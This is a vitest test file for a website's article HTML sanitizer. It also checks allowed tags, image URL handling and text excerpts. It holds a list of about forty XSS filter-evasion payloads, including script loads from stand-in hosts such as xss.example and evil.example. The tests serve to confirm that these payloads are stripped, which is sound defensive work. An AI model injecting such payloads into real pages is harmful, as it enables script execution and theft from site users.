import { describe, expect, it } from 'vitest';
import { excerptOf, sanitizeArticleHtml, textOf } from './article-html.ts';

const UPLOAD = '0123456789abcdef0123456789abcdef.jpg';

// Known ways of slipping script into HTML (OWASP XSS filter evasion cheat sheet and friends).
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  `<img src="/uploads/${UPLOAD}" onerror="alert(1)">`,
  '<img src="javascript:alert(1)">',
  '<img src=JaVaScRiPt:alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/x" onclick="alert(1)">x</a>',
  '<p onmouseover="alert(1)">hover</p>',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<div><scr<script>ipt>alert(1)</scr</script>ipt></div>',
  '<<script>alert(1);//<</script>',
  '<img """><script>alert(1)</script>">',
  '<a href="https://ok.example" onmouseover="alert(1)">ok</a>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<p>text</p><script type="module">import("//evil.example")</script>',
];

describe('sanitizeArticleHtml', () => {
  it(`removes every script, handler, frame and javascript: URL of ${PAYLOADS.length} payloads`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(30);
    for (const payload of PAYLOADS) {
      const clean = sanitizeArticleHtml(payload).toLowerCase();
      expect(clean, payload).not.toMatch(/<script|<iframe|<object|<embed|<svg|<math|<style|<form|<input|<button|<link|<meta|<base/);
      expect(clean, payload).not.toMatch(/\son[a-z]+\s*=/);
      expect(clean, payload).not.toMatch(/javascript:|vbscript:|data:/);
      expect(clean, payload).not.toContain('style=');
      expect(clean, payload).not.toContain('srcdoc');
    }
  });

  it('keeps headings, paragraphs, lists, quotes, emphasis, safe links and our pictures', () => {
    const html =
      '<h2>Judul</h2><h3>Sub</h3><p>Teks <strong>tebal</strong>, <em>miring</em>, <u>garis</u>, <s>coret</s>.</p>' +
      '<ul><li>satu</li></ul><ol><li>dua</li></ol><blockquote><p>kutipan</p></blockquote>' +
      '<p><a href="https://pulau.example/x" target="_blank">tautan</a> <a href="mailto:a@b.id">surat</a></p>' +
      `<img src="/uploads/${UPLOAD}" alt="Pantai">`;
    expect(sanitizeArticleHtml(html)).toBe(
      '<h2>Judul</h2><h3>Sub</h3><p>Teks <strong>tebal</strong>, <em>miring</em>, <u>garis</u>, <s>coret</s>.</p>' +
        '<ul><li>satu</li></ul><ol><li>dua</li></ol><blockquote><p>kutipan</p></blockquote>' +
        '<p><a href="https://pulau.example/x" target="_blank" rel="noopener noreferrer nofollow">tautan</a> ' +
        '<a href="mailto:a@b.id" rel="noopener noreferrer nofollow">surat</a></p>' +
        `<img src="/uploads/${UPLOAD}" alt="Pantai" />`,
    );
  });

  it('keeps pictures given as this server’s absolute URL, as a path; drops pictures from elsewhere', () => {
    expect(sanitizeArticleHtml(`<p>a</p><img src="http://localhost:3000/uploads/${UPLOAD}" alt="x">`)).toBe(
      `<p>a</p><img src="/uploads/${UPLOAD}" alt="x" />`,
    );
    expect(sanitizeArticleHtml('<p>a</p><img src="https://tracker.example/pixel.gif">')).toBe('<p>a</p>');
    expect(sanitizeArticleHtml('<h1>Besar</h1>')).toBe('<h2>Besar</h2>');
  });
});

describe('text and excerpt', () => {
  it('reads the text of HTML with words kept apart', () => {
    expect(textOf('<h2>Judul</h2><p>Satu&nbsp;dua &amp; tiga</p><ul><li>a</li><li>b</li></ul>')).toBe('Judul Satu dua & tiga a b');
  });

  it('cuts a long text at a word with an ellipsis', () => {
    const excerpt = excerptOf(`<p>${'kata '.repeat(100)}</p>`, 50);
    expect(excerpt.length).toBeLessThanOrEqual(50);
    expect(excerpt.endsWith('kata…')).toBe(true);
    expect(excerptOf('<p>Pendek saja.</p>')).toBe('Pendek saja.');
  });
});
